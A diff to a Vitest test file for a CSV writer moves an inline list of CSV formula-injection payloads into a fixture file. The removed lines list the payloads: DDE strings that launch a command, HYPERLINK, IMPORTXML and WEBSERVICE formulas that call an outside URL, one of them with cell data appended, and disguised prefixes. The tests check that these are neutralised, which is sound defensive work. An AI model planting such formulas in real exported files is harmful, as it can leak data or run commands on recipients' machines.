@@ -3,6 +3,7 @@ import { expect, test } from 'vitest';
 import { unguardFormula } from '#shared/lead/text.ts';
 import { readText } from '#shared/table/read-csv.ts';
 import { csvLine, guardFormula, writeCsv } from '#shared/table/write-csv.ts';
+import { PAYLOADS } from '../../fixtures/formula-payloads.ts';
 
 test.each([
   ['plain cells stand as they are', ['Ann', 'Lee', '+12025550123'], 'Ann,Lee,+12025550123'],
@@ -21,34 +22,6 @@ test.each([
 test('a whole table, with another delimiter', () => {
   expect(writeCsv(['Name', 'City'], [['Ann', 'A;B'], ['Bob']], { delimiter: ';' })).toBe('Name;City\r\nAnn;"A;B"\r\nBob\r\n');
 });
-
-/** Written after the list OWASP gives under "CSV Injection" and what spreadsheets are known to take for a formula. */
-const PAYLOADS = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://example.com/?x="&A1,"click")',
-  '=IMPORTXML("https://example.com","//a")',
-  '=WEBSERVICE("https://example.com")',
-  "+1+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\0=1+1',
-  '\0 \0=1+1',
-  '＝1+1',
-  '＋1+A1',
-  '－1+A1',
-  '＠SUM(A1)',
-  '+A1',
-  '-A1',
-  '=',
-  '@ann',
-];
 
 test.each(PAYLOADS)('a spreadsheet cannot run %j, wherever it stands', (payload) => {
   for (const position of [0, 1, 2, 3, 4, 5]) {
